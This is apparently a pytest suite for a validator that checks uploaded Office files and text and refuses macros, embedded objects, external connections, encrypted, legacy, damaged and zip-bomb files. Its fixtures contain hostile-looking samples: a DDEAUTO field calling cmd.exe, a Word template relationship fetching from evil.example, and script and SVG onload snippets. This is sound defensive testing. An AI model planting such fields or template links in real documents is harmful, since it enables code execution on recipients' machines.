"""Office files and plain text, where a caller takes them: what runs, hides or fetches something is refused."""

import io
import zipfile

import pytest
import xlsxwriter

from tandem.core.errors import Refused
from tandem.core.file_kinds import ALL_KINDS, CSV, DOCUMENTS, DOCX, PPTX, SCANS, TXT, XLSX, kind_of

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
RELATIONSHIP = (
    '<Relationships><Relationship Id="r1" Type="http://x/{type}" Target="{to}"{mode}/></Relationships>'
)


def packed() -> bytes:
    """A Word file of one empty part."""
    return archive({"word/document.xml": "<w:document/>"})


def archive(parts: dict[str, str | bytes], types: str = TYPES) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", types)
        for name, content in parts.items():
            made.writestr(name, content)
    return memory.getvalue()


def workbook() -> bytes:
    memory = io.BytesIO()
    with xlsxwriter.Workbook(memory, {"in_memory": True}) as made:
        sheet = made.add_worksheet()
        sheet.write_url(0, 0, "https://tuv.example/verify")
    return memory.getvalue()


def test_whole_office_files_and_text_are_taken_where_they_are_wanted() -> None:
    found = [
        kind_of(content, ALL_KINDS).media_type
        for content in (
            workbook(),
            packed(),
            archive({"ppt/presentation.xml": "<p/>"}),
            b"part;lot;value\n1;A;2\n",
            "第一行\n第二行，没有列。\n".encode("gb18030"),
        )
    ]
    assert found == [XLSX, DOCX, PPTX, CSV, TXT]
    assert kind_of(workbook(), DOCUMENTS).ending == "xlsx"


def test_whoever_takes_scans_takes_nothing_else() -> None:
    for content in (workbook(), packed(), b"a,b\n1,2\n"):
        with pytest.raises(Refused, match="no whole PDF, PNG or JPEG"):
            kind_of(content, SCANS)
    with pytest.raises(Refused, match="Excel, Word or PowerPoint"):
        kind_of(b"a,b\n1,2\n", DOCUMENTS)
    with pytest.raises(Refused, match="Excel, Word or PowerPoint"):
        kind_of(archive({"classes/Main.class": "x"}), DOCUMENTS)
    for page in (b"<html><script>", b"<svg onload=x>", b"MZ\x90\x00\x03"):
        with pytest.raises(Refused):
            kind_of(page, ALL_KINDS)


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "xl/externalLinks/externalLink1.xml",
        "customUI/customUI.xml",
        "xl/connections.xml",
    ],
)
def test_what_runs_or_carries_other_files_is_refused(part: str) -> None:
    with pytest.raises(Refused, match="macros, embedded objects or links"):
        kind_of(archive({"word/document.xml": "<w/>", part: "x"}), DOCUMENTS)


def test_a_macro_file_under_another_name_is_refused() -> None:
    types = TYPES.replace(
        "></Types>", '><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'
    )
    with pytest.raises(Refused, match="macros"):
        kind_of(archive({"word/document.xml": "<w/>"}, types), DOCUMENTS)
    field = "<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText>"
    with pytest.raises(Refused, match="macros"):
        kind_of(archive({"word/document.xml": field}), DOCUMENTS)


def test_what_fetches_something_is_refused_and_a_link_is_not() -> None:
    outside = ' TargetMode="External"'
    link = RELATIONSHIP.format(type="hyperlink", to="https://tuv.example", mode=outside)
    assert kind_of(archive({"word/document.xml": "<w/>", "word/_rels/document.xml.rels": link}), DOCUMENTS)
    template = RELATIONSHIP.format(type="attachedTemplate", to="https://evil.example/t.dotm", mode=outside)
    with pytest.raises(Refused, match="fetches something from elsewhere"):
        kind_of(archive({"word/document.xml": "<w/>", "word/_rels/settings.xml.rels": template}), DOCUMENTS)


def test_what_is_encrypted_old_damaged_or_a_bomb_is_refused() -> None:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    with pytest.raises(Refused, match="before 2007"):
        kind_of(old, DOCUMENTS)
    with pytest.raises(Refused, match="encrypted"):
        kind_of(old + "EncryptedPackage".encode("utf-16-le"), DOCUMENTS)
    with pytest.raises(Refused, match="damaged"):
        kind_of(workbook()[:900], DOCUMENTS)
    with pytest.raises(Refused, match="much larger than it looks"):
        kind_of(archive({"word/document.xml": bytes(65 * 1024 * 1024)}), DOCUMENTS)


def test_an_archive_packed_another_way_and_damaged_is_told_so() -> None:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_LZMA) as made:
        made.writestr("[Content_Types].xml", TYPES * 40)
        made.writestr("word/document.xml", "<w:document/>")
    content = bytearray(memory.getvalue())
    begins = content.index(b"[Content_Types].xml") + len("[Content_Types].xml")
    content[begins + 4 : begins + 40] = b"\xff" * 36
    with pytest.raises(Refused, match="damaged"):
        kind_of(bytes(content), DOCUMENTS)
